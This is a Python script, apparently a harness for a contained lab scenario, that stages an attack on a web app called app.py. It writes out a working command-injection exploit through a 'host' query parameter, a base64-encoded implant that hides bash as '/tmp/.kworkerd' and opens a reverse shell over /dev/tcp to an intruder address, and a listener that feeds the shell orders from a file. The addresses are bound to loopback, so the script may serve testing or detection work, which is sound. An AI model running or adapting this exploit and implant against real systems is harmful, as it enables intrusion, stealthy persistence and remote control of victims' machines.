# SPDX-License-Identifier: BSD-2-Clause
"""Those who visit the page of app.py: somebody who wants to know an address, and somebody else.
What his implant is told to do is in the file orders, a line each."""

import base64
import fcntl
import http.client
import os
import signal
import socket
import struct
import threading
import time
import urllib.parse

HOME = "198.51.100.10"
VISITOR = "192.0.2.20"
INTRUDER = "203.0.113.66"

SIOCSIFFLAGS, SIOCSIFADDR, IFF_UP = 0x8914, 0x8916, 1
PATIENCE = 300

# What the intruder leaves behind: a shell under another name, that calls home and obeys.
IMPLANT = f"""#!/bin/sh
cp /bin/bash /tmp/.kworkerd
setsid /tmp/.kworkerd -c 'exec 3<>/dev/tcp/{INTRUDER}/4444
while read -r line <&3; do eval "$line" >&3 2>&1; echo . >&3; done' </dev/null >/dev/null 2>&1 &
"""


def network():
    """All addresses are the loopback's: nothing that is sent to them gets anywhere."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        fcntl.ioctl(any_socket, SIOCSIFFLAGS, struct.pack("16sH14x", b"lo", IFF_UP))
        for n, address in enumerate((HOME, VISITOR, INTRUDER), 1):
            request = struct.pack("16sHH4s8x", b"lo:%d" % n, socket.AF_INET, 0,
                                  socket.inet_aton(address))
            fcntl.ioctl(any_socket, SIOCSIFADDR, request)


def ask(source, host):
    deadline = time.monotonic() + PATIENCE
    while True:
        page = http.client.HTTPConnection(HOME, 8080, source_address=(source, 0), timeout=PATIENCE)
        try:
            page.request("GET", "/?host=" + urllib.parse.quote(host))
            return page.getresponse().read().decode()
        except ConnectionRefusedError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.02)
        finally:
            page.close()


def take(listener):
    """What is sent here is looked at by nobody."""
    while True:
        with listener.accept()[0] as link:
            while link.recv(65536):
                pass


def obey(listener):
    """The implant calls; each answer ends with a line that is a dot."""
    with open("orders", encoding="utf-8") as file:
        orders = [line for line in file.read().splitlines() if line and not line.startswith("#")]
    with listener.accept()[0] as link, link.makefile("rw", encoding="utf-8") as lines:
        for order in orders:
            lines.write(order + "\n")
            lines.flush()
            while lines.readline() not in (".\n", ""):
                pass


def main():
    network()
    print("ready", flush=True)
    ask(VISITOR, "localhost")
    assert "uid=" in ask(INTRUDER, "localhost; id")
    with (socket.create_server((INTRUDER, 4444)) as listener,
          socket.create_server((INTRUDER, 8443)) as drop):
        listener.settimeout(PATIENCE)
        threading.Thread(target=take, args=(drop,), daemon=True).start()
        implant = base64.b64encode(IMPLANT.encode()).decode()
        ask(INTRUDER, f"localhost; echo {implant} | base64 -d >/tmp/.u; chmod 755 /tmp/.u; /tmp/.u")
        obey(listener)
    with open("/srv/www/app.pid", encoding="utf-8") as file:
        os.kill(int(file.read()), signal.SIGTERM)


main()
